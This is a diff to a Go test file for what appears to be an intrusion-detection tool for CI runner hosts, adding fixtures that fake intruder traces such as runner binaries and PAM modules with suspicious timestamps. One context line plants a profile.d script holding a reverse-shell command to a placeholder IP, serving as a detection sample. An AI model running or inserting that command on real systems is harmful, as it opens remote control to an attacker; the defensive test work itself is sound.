@@ -4,10 +4,27 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"cordon/internal/check"
 	"cordon/internal/host/snapshot"
 )
+
+// unpacked is a GitHub runner as its archive leaves it, but for one file that changed later.
+func unpacked(late string) func(*snapshot.Snapshot) {
+	return func(s *snapshot.Snapshot) {
+		const root = "/home/ir/actions-runner"
+		onGitHub(file(runners, root+"/.service", 0o644, 1001, "x"))(s)
+		for _, name := range []string{"Runner.Listener", "Runner.Worker", "Runner.PluginHost", "RunnerService.js"} {
+			f := file(snapshot.SectionWork, root+"/bin/"+name, 0o755, 0, "")
+			f.Size, f.Ctime = 80_000, taken.Add(-500*time.Hour)
+			if name == late {
+				f.Ctime = taken.Add(-10 * time.Hour)
+			}
+			s.Files = append(s.Files, f)
+		}
+	}
+}
 
 // artefact is one thing an intruder leaves, with the check that must see it.
 type artefact struct {
@@ -190,6 +207,22 @@ var artefacts = []artefact{
 		plantFile(file(runners, "/etc/gitlab-runner/config.toml", 0o644, 0, config))(s)
 	}},
 
+	// runner-files: what only times show
+	{"program of the runner that changed after its neighbours", "runner-files", check.Medium, "bin/Runner.Listener", unpacked("Runner.Listener")},
+	{"tool that changed after its marker", "runner-files", check.Medium, "/opt/hostedtoolcache/node/20.1.0/x64", func(s *snapshot.Snapshot) {
+		tool := snapshot.File{Path: "/opt/hostedtoolcache/node/20.1.0/x64", Section: snapshot.SectionWork, Type: "dir", Mode: 0o755, Ctime: taken.Add(-time.Hour)}
+		marker := file(snapshot.SectionWork, string(tool.Path)+".complete", 0o644, 0, "")
+		marker.Ctime = taken.Add(-48 * time.Hour)
+		s.Files = append(s.Files, tool, marker)
+	}},
+	{"PAM module from another day than its package", "logins", check.High, "security/pam_unix.so", func(s *snapshot.Snapshot) {
+		for i, name := range []string{"pam_unix.so", "pam_deny.so"} {
+			f := file(snapshot.SectionSystem, "/usr/lib/x86_64-linux-gnu/security/"+name, 0o644, 0, "")
+			f.Mtime = taken.Add(-time.Duration(1+i*900) * time.Hour)
+			s.Files = append(s.Files, f)
+		}
+	}},
+
 	// shell-profiles, ld-preload
 	{"profile of the jobs' account", "shell-profiles", check.Medium, "/home/gitlab-runner/.bash_profile", plantFile(file(profiles, "/home/gitlab-runner/.bash_profile", 0o644, 998, "/usr/bin/true\n"))},
 	{"profile.d that starts a shell", "shell-profiles", check.High, "/etc/profile.d/x.sh", plantFile(file(profiles, "/etc/profile.d/x.sh", 0o644, 0, "(bash -i >& /dev/tcp/192.0.2.66/443 0>&1 &)\n"))},
@@ -268,7 +301,8 @@ func TestEveryArtefactIsFoundByItsCheckAndByNoOther(t *testing.T) {
 // A row of the table for every check, so that a new check cannot come without one.
 func TestEveryCheckHasAnArtefact(t *testing.T) {
 	for _, c := range check.All() {
-		if !slices.ContainsFunc(artefacts, func(a artefact) bool { return a.check == c.ID }) {
+		in := slices.ContainsFunc(slices.Concat(runnerRows, panixRows, otherRows), func(r row) bool { return r.check == c.ID })
+		if !in && !slices.ContainsFunc(artefacts, func(a artefact) bool { return a.check == c.ID }) {
 			t.Errorf("no artefact shows that %s finds anything", c.ID)
 		}
 	}
